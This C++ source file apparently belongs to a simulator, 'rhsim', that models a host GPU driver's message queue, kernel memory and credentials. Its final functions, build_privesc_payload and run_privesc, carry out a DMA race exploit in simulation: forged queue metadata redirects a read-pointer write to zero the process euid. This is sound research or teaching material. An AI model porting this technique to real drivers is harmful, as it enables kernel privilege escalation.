// Copyright 2026 The rhsim Authors.
// SPDX-License-Identifier: Apache-2.0

#include "rhsim/host_driver.hpp"

#include <algorithm>

#include "rhsim/attack_engine.hpp"

namespace rhsim {

namespace {

constexpr std::uint64_t kInvalidFn = 0xDEAD'BEEF'0000'0000ull;

void put32(std::vector<std::uint8_t>& b, std::uint64_t off, std::uint32_t v) {
  for (int i = 0; i < 4; ++i) b[off + i] = static_cast<std::uint8_t>(v >> (8 * i));
}
void put64(std::vector<std::uint8_t>& b, std::uint64_t off, std::uint64_t v) {
  for (int i = 0; i < 8; ++i) b[off + i] = static_cast<std::uint8_t>(v >> (8 * i));
}
std::uint32_t get32(std::span<const std::uint8_t> b, std::uint64_t off) {
  std::uint32_t v = 0;
  for (int i = 0; i < 4; ++i) v |= std::uint32_t{b[off + i]} << (8 * i);
  return v;
}
std::uint64_t get64(std::span<const std::uint8_t> b, std::uint64_t off) {
  std::uint64_t v = 0;
  for (int i = 0; i < 8; ++i) v |= std::uint64_t{b[off + i]} << (8 * i);
  return v;
}

}  // namespace

std::vector<std::uint8_t> MsgqMetadata::bytes() const {
  std::vector<std::uint8_t> b(MetaField::size, 0);
  put64(b, MetaField::p_read_outgoing, p_read_outgoing);
  put32(b, MetaField::rx_read_ptr, rx_read_ptr);
  put32(b, MetaField::msg_count, msg_count);
  put64(b, MetaField::fcn_notify, fcn_notify);
  put64(b, MetaField::fcn_notify_arg, fcn_notify_arg);
  put64(b, MetaField::fcn_backend_rw, fcn_backend_rw);
  put64(b, MetaField::fcn_flush, fcn_flush);
  put64(b, MetaField::fcn_barrier, fcn_barrier);
  return b;
}

MsgqMetadata MsgqMetadata::parse(std::span<const std::uint8_t> b) {
  if (b.size() < MetaField::size) throw RangeError("metadata buffer too short");
  MsgqMetadata m;
  m.p_read_outgoing = get64(b, MetaField::p_read_outgoing);
  m.rx_read_ptr = get32(b, MetaField::rx_read_ptr);
  m.msg_count = get32(b, MetaField::msg_count);
  m.fcn_notify = get64(b, MetaField::fcn_notify);
  m.fcn_notify_arg = get64(b, MetaField::fcn_notify_arg);
  m.fcn_backend_rw = get64(b, MetaField::fcn_backend_rw);
  m.fcn_flush = get64(b, MetaField::fcn_flush);
  m.fcn_barrier = get64(b, MetaField::fcn_barrier);
  return m;
}

std::uint32_t checksum32(std::span<const std::uint8_t> msg) {
  if (msg.size() % 4 != 0) throw DomainError("checksum input not a whole number of words");
  std::uint32_t x = 0;
  for (std::size_t i = 0; i < msg.size(); i += 4) x ^= get32(msg, i);
  return x;
}

const char* driver_state_name(DriverState s) { return s == DriverState::alive ? "alive" : "crashed"; }
const char* kernel_state_name(KernelState s) {
  return s == KernelState::stable ? "stable" : "panicked";
}

KernelModel KernelModel::standard(const HostLayout& l) {
  KernelModel k;
  k.staging = l.kernel_base + 0x10000;
  k.meta = k.staging + kStagingEntries * kPage4K;
  k.read_outgoing = l.kernel_base + 0x30000;
  k.cred_addr = l.kernel_base + 0x40000;
  k.fn_notify = l.kernel_base + 0x800100;
  k.fn_flush = l.kernel_base + 0x800200;
  k.fn_barrier = l.kernel_base + 0x800300;
  k.functions = {k.fn_notify, k.fn_flush, k.fn_barrier};
  return k;
}

std::uint32_t advance_read_ptr(std::uint32_t read_ptr, std::uint32_t msg_count, std::uint32_t n) {
  std::uint32_t p = read_ptr + n;
  if (p >= msg_count) p -= msg_count;
  return p;
}

SeqScan scan_expected_seq(std::span<const std::uint8_t> dump) {
  if (dump.size() < std::uint64_t{kQueueEntries} * kPage4K)
    throw RangeError("queue dump shorter than the ring");
  std::uint32_t best = 0, smax = 0;
  bool any = false;
  for (std::uint32_t i = 0; i < kQueueEntries; ++i) {
    const std::uint32_t s = get32(dump, i * kPage4K + MsgHeader::seq);
    if (s == 0) continue;
    if (!any || s > smax) {
      smax = s;
      best = i;
      any = true;
    }
  }
  if (!any) throw DomainError("queue holds no messages");
  return {(best + 1) % kQueueEntries, (best + 17) % kQueueEntries, smax + 1};
}

ParseOutcome parse_fault_entry(const FaultBufferEntry& e, ParseMode mode,
                               [[maybe_unused]] std::uint32_t num_gpcs, std::uint32_t utlbs_len,
                               std::uint64_t sub_batch_base) {
  ParseOutcome out;
  out.utlb_id = e.gpc_id;
  if (out.utlb_id >= utlbs_len) {
    if (mode == ParseMode::debug) throw AssertionTriggered("utlb_id < utlbs_len assertion");
    throw OobDetected("utlb_id", "utlbs[] indexed past its end");
  }
  out.page_index = (e.fault_address - sub_batch_base) / kPage4K;
  if (e.fault_address < sub_batch_base || out.page_index >= kPageMaskBits)
    throw OobDetected("page_index", "page mask bit outside the sub-batch");
  return out;
}

// ------------------------------------------------------------------ HostSystem

HostSystem::HostSystem(HostMemoryModel& mem, HostConfig cfg)
    : mem_(mem), cfg_(cfg), rng_(cfg.seed), k_(KernelModel::standard(mem.layout())) {
  initial_meta_ = {k_.read_outgoing, 0, kQueueEntries, k_.fn_notify, 0, 0, k_.fn_flush,
                   k_.fn_barrier};
  set_metadata(initial_meta_);
  mem_.cpu_write_u32(k_.cred_addr, kInitialEuid);
  mem_.cpu_write_u32(k_.cred_addr + 4, kInitialEuid);
  mem_.cpu_write_u32(k_.cred_addr + kEuidOffset, kInitialEuid);
}

MsgqMetadata HostSystem::metadata() const {
  return MsgqMetadata::parse(mem_.cpu_read(k_.meta, MetaField::size));
}

void HostSystem::set_metadata(const MsgqMetadata& m) { mem_.cpu_write(k_.meta, m.bytes()); }

std::uint32_t HostSystem::euid() const { return mem_.cpu_read_u32(k_.cred_addr + kEuidOffset); }

bool HostSystem::metadata_intact() const {
  MsgqMetadata m = metadata();
  m.rx_read_ptr = initial_meta_.rx_read_ptr;
  return m == initial_meta_ && metadata().rx_read_ptr == read_idx_;
}

void HostSystem::gsp_enqueue(std::uint32_t elem_count) {
  if (elem_count == 0 || rx_avail_ + elem_count > kQueueEntries) return;
  std::vector<std::uint8_t> msg(elem_count * kPage4K, 0);
  put32(msg, MsgHeader::seq, next_seq_);
  put32(msg, MsgHeader::elem_count, elem_count);
  for (std::uint64_t w = 0; w < 8; ++w)
    put32(msg, MsgHeader::payload + 4 * w, static_cast<std::uint32_t>(next_seq_ * 2654435761u + w));
  put32(msg, MsgHeader::checksum, checksum32(msg));
  for (std::uint32_t k = 0; k < elem_count; ++k)
    mem_.dma_write_host(entry_addr(write_idx_ + k),
                        std::span(msg).subspan(k * kPage4K, kPage4K));
  write_idx_ = (write_idx_ + elem_count) % kQueueEntries;
  rx_avail_ += elem_count;
  ++next_seq_;
}

void HostSystem::maybe_race() {
  if (cfg_.race_window <= 0) return;
  if (std::bernoulli_distribution(std::min(1.0, cfg_.race_window))(rng_)) driver_receive();
}

void HostSystem::device_attribute_query() {
  gsp_enqueue(1);
  maybe_race();
}

std::uint32_t HostSystem::driver_receive() {
  if (k_.driver != DriverState::alive || k_.kernel != KernelState::stable) return 0;
  const auto head = mem_.cpu_read(entry_addr(read_idx_), MsgHeader::payload);
  const std::uint32_t seq = get32(head, MsgHeader::seq);
  const std::uint32_t elems = get32(head, MsgHeader::elem_count);
  if (elems == 0 || rx_avail_ < elems) return 0;
  for (std::uint32_t k = 0; k < elems; ++k) {
    const std::uint64_t dst = k_.staging + std::uint64_t{k} * kPage4K;
    if (!mem_.in_kernel(dst, kPage4K)) {
      k_.kernel = KernelState::panicked;
      k_.crash_reason = "staging copy ran off kernel memory";
      return 0;
    }
    mem_.cpu_write(dst, mem_.cpu_read(entry_addr(read_idx_ + k), kPage4K));
  }
  const auto copied = mem_.cpu_read(k_.staging, std::uint64_t{elems} * kPage4K);
  if (checksum32(copied) != 0 || seq != rx_seq_) return 0;
  if (elems > kStagingEntries) ++oversized_accepted_;
  rx_seq_ = seq + 1;
  read_idx_ = (read_idx_ + elems) % kQueueEntries;
  rx_avail_ -= elems;
  msgq_rx_mark_consumed(elems);
  return elems;
}

std::uint32_t HostSystem::service() {
  std::uint32_t total = 0;
  for (int i = 0; i < static_cast<int>(kQueueEntries); ++i) {
    const std::uint32_t n = driver_receive();
    if (n == 0) break;
    total += n;
  }
  return total;
}

void HostSystem::invoke(std::uint64_t fn) {
  if (fn == 0 || k_.driver != DriverState::alive) return;
  k_.invoked.push_back(fn);
  if (!k_.functions.contains(fn)) {
    k_.driver = DriverState::crashed;
    k_.crash_reason = "callback into invalid code";
  }
}

WriteEffect HostSystem::msgq_rx_mark_consumed(std::uint32_t n) {
  MsgqMetadata m = metadata();
  WriteEffect eff;
  eff.new_read_ptr = advance_read_ptr(m.rx_read_ptr, m.msg_count, n);
  m.rx_read_ptr = eff.new_read_ptr;
  set_metadata(m);
  if (m.fcn_backend_rw == 0) {
    if (!mem_.in_kernel(m.p_read_outgoing, 4)) {
      k_.kernel = KernelState::panicked;
      k_.crash_reason = "read pointer written outside kernel memory";
      return eff;
    }
    mem_.cpu_write_u32(m.p_read_outgoing, eff.new_read_ptr);
    eff.write_addr = m.p_read_outgoing;
    eff.written = eff.new_read_ptr;
  } else {
    invoke(m.fcn_backend_rw);
  }
  invoke(m.fcn_flush);
  invoke(m.fcn_barrier);
  invoke(m.fcn_notify);
  return eff;
}

// ------------------------------------------------------------------- privesc

PrivescPayload build_privesc_payload(std::uint32_t seq, std::uint64_t target,
                                     std::uint64_t flush_fn) {
  PrivescPayload p;
  p.head.assign(kPage4K, 0);
  p.meta_entry.assign(kPage4K, 0);
  put32(p.head, MsgHeader::seq, seq);
  put32(p.head, MsgHeader::elem_count, kStagingEntries + 1);
  const MsgqMetadata m{target, 0xFFFFFFF9u, 10, 0, 0, 0, flush_fn, 0};
  const auto mb = m.bytes();
  std::copy(mb.begin(), mb.end(), p.meta_entry.begin());
  put32(p.head, MsgHeader::checksum, checksum32(p.head) ^ checksum32(p.meta_entry));
  return p;
}

PrivescReport run_privesc(HostDma& dma, GuestSession& g, HostSystem& host,
                          std::uint64_t cred_addr, PrivescOptions opt) {
  PrivescReport rep;
  rep.euid_before = host.euid();
  const std::uint64_t base = host.queue_base();
  for (std::uint32_t a = 0; a < opt.max_attempts && host.euid() != 0; ++a) {
    ++rep.attempts;
    if (host.kernel().driver != DriverState::alive) break;
    // Generate traffic so the ring is not empty, then let the driver drain.
    g.device_attribute_query();
    host.service();
    const auto dump = dma.read(base, std::uint64_t{kQueueEntries} * kPage4K);
    const SeqScan s = scan_expected_seq(dump);
    rep.queue_index = s.n;
    rep.expected_seq = s.expected_seq;
    const PrivescPayload p = build_privesc_payload(s.expected_seq, cred_addr + kEuidOffset,
                                                   opt.crash_driver ? kInvalidFn : 0);
    const std::uint64_t head_at = base + std::uint64_t{s.n} * kPage4K;
    const std::uint64_t meta_at = base + std::uint64_t{s.payload_index} * kPage4K;
    dma.write(head_at, p.head);
    dma.write(meta_at, p.meta_entry);
    for (std::uint32_t k = 0; k <= kStagingEntries; ++k) {
      g.device_attribute_query();
      if (k == 0) dma.write(head_at, p.head);
      if (k == kStagingEntries) dma.write(meta_at, p.meta_entry);
    }
    host.service();
    if (host.euid() != 0) {
      // Race lost on the head entry: the driver is now waiting on the
      // overwritten payload slot, so put a well-formed message back there.
      std::vector<std::uint8_t> fix(kPage4K, 0);
      put32(fix, MsgHeader::seq, s.expected_seq + kStagingEntries);
      put32(fix, MsgHeader::elem_count, 1);
      put32(fix, MsgHeader::checksum, checksum32(fix));
      dma.write(meta_at, fix);
      host.service();
    }
  }
  rep.euid_after = host.euid();
  rep.success = rep.euid_after == 0;
  rep.driver_state = driver_state_name(host.kernel().driver);
  rep.kernel_state = kernel_state_name(host.kernel().kernel);
  rep.stable = host.kernel().kernel == KernelState::stable &&
               (host.kernel().driver == DriverState::crashed || host.metadata_intact());
  return rep;
}

}  // namespace rhsim
